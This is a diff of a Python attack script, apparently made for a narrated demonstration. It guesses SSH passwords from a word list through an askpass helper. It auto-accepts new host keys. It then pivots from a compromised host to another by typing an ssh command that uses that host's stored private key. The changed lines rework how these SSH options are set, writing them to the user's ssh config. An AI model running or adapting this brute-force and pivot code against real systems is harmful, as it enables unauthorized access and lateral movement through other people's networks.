@@ -34,18 +34,12 @@ def say(step: str, host: str, text: str) -> None:
     time.sleep(pause_s)
 
 
-def ssh_argv(target: str) -> list[str]:
-    """Return the command of an interactive session on target that never asks for anything twice."""
-    options = {
-        "StrictHostKeyChecking": "accept-new",
-        "NumberOfPasswordPrompts": "1",
-        "LogLevel": "ERROR",
-        "ConnectTimeout": "10",
-    }
-    argv = ["ssh", "-tt"]
-    for name, value in options.items():
-        argv += ["-o", f"{name}={value}"]
-    return [*argv, target]
+SSH_CONFIG = """\
+StrictHostKeyChecking accept-new
+NumberOfPasswordPrompts 1
+LogLevel ERROR
+ConnectTimeout 10
+"""
 
 
 class Session:
@@ -58,7 +52,7 @@ class Session:
             "GUESS": password,
         }
         self._ssh = subprocess.Popen(
-            ssh_argv(target),
+            ["ssh", "-tt", target],
             env=environment,
             stdin=subprocess.PIPE,
             stdout=subprocess.PIPE,
@@ -137,6 +131,8 @@ def attack(arguments: argparse.Namespace) -> None:
     askpass = home / "askpass"
     askpass.write_text(ASKPASS)
     askpass.chmod(0o700)
+    (home / ".ssh").mkdir(mode=0o700, exist_ok=True)
+    (home / ".ssh/config").write_text(SSH_CONFIG)
     words = (home / "words").read_text().split()
     session = guess(arguments.target, words, askpass)
 
@@ -147,7 +143,8 @@ def attack(arguments: argparse.Namespace) -> None:
 
     # The shell on b ends with the session on c: what is typed ahead while one shell gives way to
     # another may reach either.
-    session.send(f"{' '.join(ssh_argv(arguments.next))} -i .ssh/id_ed25519; exit")
+    trust = "-o StrictHostKeyChecking=accept-new"
+    session.send(f"ssh -i .ssh/id_ed25519 {trust} {arguments.next}; exit")
     session.line("export PS1= PS2=; stty -echo")
     where = session.line("hostname")
     say("pivot", where, f"from b to {arguments.next} with that key")
